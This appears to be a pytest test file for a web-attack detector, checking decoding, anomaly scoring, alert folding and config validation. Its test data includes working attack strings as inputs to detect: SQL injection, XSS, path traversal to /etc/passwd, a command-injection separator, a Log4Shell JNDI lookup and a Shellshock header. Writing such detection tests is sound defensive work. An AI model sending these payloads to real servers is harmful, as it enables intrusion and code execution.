"""Web-attack detector: decoding, CRS-style scoring and folding, literal requests in."""

from __future__ import annotations

import math

import pytest

from detectors.webattack import WebAttack, WebAttackConfig
from detectors.webdecode import normalise, url_decode
from detectors.webrules import anomaly_score, match_request
from sensors.events import HttpRequest


def request(uri: str, t: float = 0.0, agent: str = "Mozilla/5.0", status: int = 200) -> HttpRequest:
    return HttpRequest(
        time=t,
        sensor="s",
        src_ip="192.0.2.66",
        dst_ip="10.10.3.10",
        dst_port=80,
        method="GET",
        uri=uri,
        user_agent=agent,
        status=status,
    )


def run(*events: HttpRequest, **config: object) -> list[tuple[str, str | None, int]]:
    detector = WebAttack(WebAttackConfig(**config))  # type: ignore[arg-type]
    alerts = [a for e in events for a in detector.observe(e)] + detector.flush(math.inf)
    return [(a.rule, a.source_ip, int(a.facts["requests"])) for a in alerts]


@pytest.mark.parametrize(
    ("raw", "decoded"),
    [
        ("..%252f..%252fetc", "../../etc"),  # double URL encoding
        ("%u003cscript%u003e", "<script>"),  # IIS unicode
        ("a+b%20c", "a b c"),
    ],
)
def test_decoding(raw: str, decoded: str) -> None:
    assert normalise(raw, plus=True) == decoded


def test_html_entities_and_repeat_limit() -> None:
    assert normalise("&lt;script&gt;", plus=False) == "<script>"
    assert url_decode("%25252541", plus=False, rounds=3) == "%41"


@pytest.mark.parametrize(
    ("uri", "agent", "attack"),
    [
        ("/news.php?id=1%27%20OR%20%271%27%3D%271", "", "sqli-tautology-quoted"),
        ("/a?id=-1+union+all+select+1,2--", "", "sqli-union"),
        ("/a?id=12%27%20AND%20SLEEP(5)--%20-", "", "sqli-time"),
        ("/a?q=%3Cscript%3Ealert(1)%3C/script%3E", "", "xss-script-tag"),
        ("/a?q=<img src=x onerror=alert(1)>", "", "xss-event-handler"),
        ("/dl?file=..%2f..%2f..%2fetc%2fpasswd", "", "lfi-os-files"),
        ("/index.php?page=php://filter/resource=config", "", "lfi-wrappers"),
        ("/ping?host=127.0.0.1;cat%20/etc/hosts", "", "cmdi-separator"),
        ("/", "${${lower:j}${::-n}di:ldap://x/a}", "log4shell-jndi"),
        ("/cgi-bin/status", "() { :; }; /bin/bash -c id", "shellshock"),
        ("/up/x.php?cmd=whoami", "", "webshell-command"),
        ("/a?data=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "", "xss-script-tag"),  # base64
        ("/", "sqlmap/1.8.4#stable", "scanner-agent"),
        ("/.git/HEAD", "curl/7.68.0", "lfi-restricted-files"),
        ("/s72_Shell.php", "", "webshell-name"),
        ("/?s=index/%5Cthink%5Capp/invokefunction&function=call_user_func_array", "", "rce-php"),
        (
            "/%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/",
            "",
            "rce-java-expression",
        ),
    ],
)
def test_attack_requests_score_at_least_five_at_pl1(uri: str, agent: str, attack: str) -> None:
    matches = match_request(uri, agent, paranoia=2)
    assert attack in {m.rule.id for m in matches}
    assert anomaly_score(matches, paranoia=1) >= 5


@pytest.mark.parametrize(
    "uri",
    [
        "/news.php?id=12",
        "/search?q=O%27Reilly+books",
        "/search?q=select+a+coffee+from+the+menu",
        "/list.php?cat=5&page=2",
        "/static/css/main.css?v=3",
        "/download.php?file=yjya-2026.doc",
        "/a?q=%3Cb%3Ebold%3C/b%3E",
    ],
)
def test_benign_requests_stay_below_threshold(uri: str) -> None:
    assert anomaly_score(match_request(uri, "Mozilla/5.0", paranoia=2), paranoia=1) < 5


def test_pl2_matches_are_reported_but_do_not_count() -> None:
    matches = match_request("/search?q=select+a+coffee+from+the+menu", "", paranoia=2)
    assert [(m.rule.id, m.rule.paranoia) for m in matches] == [("sqli-select-from", 2)]


def test_attacks_fold_per_source_target_and_class() -> None:
    events = [
        request("/news.php?id=12"),
        request("/news.php?id=1%27%20OR%20%271%27%3D%271", t=1.0),
        request("/news.php?id=12%20AND%201%3D1", t=2.0),
        request("/dl.php?file=../../../../etc/passwd", t=3.0),
    ]
    assert run(*events) == [
        ("webattack.sqli", "192.0.2.66", 2),
        ("webattack.traversal", "192.0.2.66", 1),
    ]


def test_window_closes_on_later_traffic_and_keeps_uris_as_data() -> None:
    detector = WebAttack(WebAttackConfig(window_seconds=60.0))
    assert detector.observe(request("/a?q=<script>x</script>", t=0.0)) == []
    [alert] = detector.observe(request("/", t=61.0))
    assert alert.identifier == "webattack.xss:192.0.2.66->10.10.3.10"
    assert alert.facts["sample_uri_1"] == "/a?q=<script>x</script>"
    assert alert.facts["matches_pl1"] == 1
    assert (alert.technique, alert.tactic.value) == ("T1190", "TA0001")


@pytest.mark.parametrize(
    ("field", "value"),
    [("inbound_threshold", 1), ("paranoia_level", 5), ("detection_paranoia", 0)],
)
def test_config_is_range_checked(field: str, value: int) -> None:
    with pytest.raises(ValueError, match=f"^{field}: "):
        WebAttackConfig(**{field: value})  # type: ignore[arg-type]


def test_a_fold_kept_busy_closes_at_its_window() -> None:
    detector = WebAttack(WebAttackConfig(window_seconds=60.0))
    events = [request("/a?q=<script>x</script>", t=t) for t in (0.0, 30.0, 61.0)]
    alerts = [a for e in events for a in detector.observe(e)]
    assert [a.facts["requests"] for a in alerts] == [2]
